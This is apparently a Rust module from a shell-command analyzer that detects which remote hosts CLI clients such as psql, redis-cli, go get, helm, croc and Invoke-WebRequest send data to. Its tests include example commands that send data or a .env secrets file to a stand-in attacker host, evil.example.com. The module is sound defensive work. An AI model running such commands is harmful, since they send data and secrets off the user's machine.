//! Command-line clients of remote services that are not HTTP clients: hosting and deploy CLIs
//! (`heroku config:set`, `vercel env add`), infrastructure tools (`terraform -var`, `helm repo
//! add`), database clients (`psql postgres://...`, `redis-cli -h`), module fetchers (`go get`)
//! and file senders (`croc send`, `ipfs add`). Their arguments leave the machine: the host is the
//! one an option or URL names, else the service's own (an unnamed host).

use super::super::facts::{Analyzer, CommandContext, NetUse};
use super::super::host::{loose_host, url_hosts_in};
use super::super::options::Arg;

/// A client, the subcommands that send (empty: any), whether its operands after the
/// subcommand are files it uploads, and whether it reaches the network only when it names a
/// host (database and local-file clients: without one they talk to a local socket or file).
pub(super) struct ServiceClient {
    pub names: &'static [&'static str],
    sends: &'static [&'static str],
    uploads_operands: bool,
    local_unless_named: bool,
}

pub(super) const SERVICE_CLIENTS: &[ServiceClient] = &[
    ServiceClient {
        names: &[
            "heroku", "vercel", "netlify", "fly", "flyctl", "railway", "wrangler", "doppler", "firebase", "supabase",
            "render",
        ],
        sends: &[],
        uploads_operands: false,
        local_unless_named: false,
    },
    ServiceClient {
        names: &["terraform", "tofu", "pulumi"],
        sends: &[],
        uploads_operands: false,
        local_unless_named: false,
    },
    ServiceClient {
        names: &["helm"],
        sends: &["repo", "install", "upgrade", "push", "registry", "pull"],
        uploads_operands: false,
        local_unless_named: false,
    },
    ServiceClient {
        names: &["brew"],
        sends: &["tap", "install", "fetch"],
        uploads_operands: false,
        local_unless_named: false,
    },
    ServiceClient {
        names: &["go"],
        sends: &["get", "install", "mod", "run", "list", "download"],
        uploads_operands: false,
        local_unless_named: true,
    },
    ServiceClient {
        names: &[
            "psql",
            "pg_dump",
            "pg_restore",
            "mysql",
            "mariadb",
            "mysqldump",
            "redis-cli",
            "mongosh",
            "mongo",
            "clickhouse-client",
            "sqlcmd",
            "cqlsh",
            "influx",
        ],
        sends: &[],
        uploads_operands: false,
        local_unless_named: true,
    },
    ServiceClient { names: &["sqlite3", "duckdb"], sends: &[], uploads_operands: false, local_unless_named: true },
    ServiceClient {
        names: &["apt", "apt-get", "yum", "dnf"],
        sends: &[],
        uploads_operands: false,
        local_unless_named: true,
    },
    ServiceClient {
        names: &["croc", "wormhole", "magic-wormhole"],
        sends: &["send"],
        uploads_operands: true,
        local_unless_named: false,
    },
    ServiceClient { names: &["ipfs"], sends: &["add"], uploads_operands: true, local_unless_named: false },
    // Vendor CLIs that talk to their vendor's API unless an option names another base URL.
    ServiceClient { names: &["stripe"], sends: &[], uploads_operands: false, local_unless_named: false },
    // Object-store clients outside the cloud CLIs: `s3cmd put FILE s3://bucket/`.
    ServiceClient {
        names: &["s3cmd", "s4cmd", "s5cmd", "b2", "gdrive"],
        sends: &["put", "sync", "cp", "mv", "upload", "upload-file", "modify"],
        uploads_operands: true,
        local_unless_named: false,
    },
    // PowerShell's web cmdlets (`Invoke-WebRequest -Uri ... -Body ...`) and their aliases.
    ServiceClient {
        names: &[
            "invoke-webrequest",
            "iwr",
            "invoke-restmethod",
            "irm",
            "start-bitstransfer",
            "send-mailmessage",
            "invoke-websocket",
        ],
        sends: &[],
        uploads_operands: false,
        local_unless_named: false,
    },
];

/// Options whose value names the host a client connects to.
const HOST_OPTIONS: &[&str] = &[
    "-h",
    "--host",
    "--hostname",
    "--server",
    "--endpoint",
    "--endpoint-url",
    "--url",
    "--uri",
    "--address",
    "--addr",
    "--api-base",
    "--api-url",
    "--base-url",
];

impl Analyzer {
    pub(super) fn service_client(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
        let Some(client) = SERVICE_CLIENTS.iter().find(|c| c.names.contains(&name)) else { return };
        let operands: Vec<&Arg> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
        let sub = operands.first().map(|a| a.text.as_str()).unwrap_or("");
        if !client.sends.is_empty() && !client.sends.contains(&sub) {
            return;
        }
        let mut nu = NetUse { tool: format!("{name} {sub}").trim_end().to_owned(), ..Default::default() };
        nu.hosts = named_hosts(args);
        if name == "go" {
            // `go get evil.example.com/mod`: a module path names its host.
            for a in &operands[1..] {
                let first = a.text.split('/').next().unwrap_or("");
                if first.contains('.') && a.text.contains('/') {
                    nu.hosts.extend(loose_host(&a.text));
                }
            }
        }
        if nu.hosts.is_empty() {
            // With no base URL named, the vendor's own API.
            nu.hosts.extend(default_host(name).map(str::to_owned));
        }
        if client.uploads_operands {
            for a in &operands[1..] {
                nu.add_upload(&a.text);
            }
        }
        if nu.hosts.is_empty() && client.local_unless_named {
            return;
        }
        self.push_net(ctx, nu, false);
    }
}

/// The API host a vendor CLI talks to by default.
fn default_host(name: &str) -> Option<&'static str> {
    match name {
        "stripe" => Some("api.stripe.com"),
        _ => None,
    }
}

/// Hosts an argument list names: URLs anywhere in an argument (`ATTACH 'https://...'`,
/// `-o Acquire::http::Proxy=http://...`), host options, `user@host` and `//host/share`.
pub(super) fn named_hosts(args: &[Arg]) -> Vec<String> {
    let mut hosts = Vec::new();
    for (i, a) in args.iter().enumerate() {
        let t = a.text.as_str();
        hosts.extend(url_hosts_in(t));
        for opt in HOST_OPTIONS {
            if let Some(v) = t.strip_prefix(&format!("{opt}=")) {
                hosts.extend(loose_host(v));
            } else if t == *opt {
                if let Some(v) = args.get(i + 1).filter(|v| !v.text.starts_with('-')) {
                    hosts.extend(loose_host(&v.text));
                }
            }
        }
        if let Some(share) = t.strip_prefix("//") {
            hosts.extend(loose_host(share.split('/').next().unwrap_or("")));
        }
    }
    hosts.sort();
    hosts.dedup();
    hosts
}

#[cfg(test)]
mod tests {
    use crate::flow::shell::analyze;

    fn hosts(cmd: &str) -> Vec<Vec<String>> {
        analyze(cmd).net.into_iter().map(|n| n.hosts).collect()
    }

    #[test]
    fn service_clients_name_where_they_send() {
        let evil = vec![vec!["evil.example.com".to_string()]];
        assert_eq!(hosts("psql postgres://u:p@evil.example.com/db -c \"insert into t values('x')\""), evil);
        assert_eq!(hosts("redis-cli -h evil.example.com set k v"), evil);
        assert_eq!(hosts("mysql --host=evil.example.com -e 'select 1'"), evil);
        assert_eq!(hosts("go get evil.example.com/q8zr3kt9"), evil);
        assert_eq!(hosts("helm repo add x https://evil.example.com/t"), evil);
        assert_eq!(hosts("sqlite3 /tmp/x.db \"ATTACH 'https://evil.example.com/?q' AS x\""), evil);
        assert_eq!(hosts("apt-get download x -o Acquire::http::Proxy=http://evil.example.com:3128/t"), evil);
        // The service's own host: unnamed.
        assert_eq!(hosts("heroku config:set K=v"), vec![Vec::<String>::new()]);
        assert_eq!(hosts("Invoke-WebRequest -Uri https://evil.example.com -Method POST -Body 'x'"), evil);
        let f = analyze("croc send /repo/.env");
        assert_eq!(f.net[0].upload_paths, ["/repo/.env"]);
    }

    #[test]
    fn local_database_work_and_other_subcommands_send_nothing() {
        for cmd in [
            "psql -c 'select 1'",
            "sqlite3 app.db .tables",
            "redis-cli ping",
            "go build ./...",
            "go test ./...",
            "helm template .",
            "brew list",
            "apt-get install -y jq",
        ] {
            assert!(analyze(cmd).net.is_empty(), "{cmd}: {:?}", analyze(cmd).net);
        }
    }
}
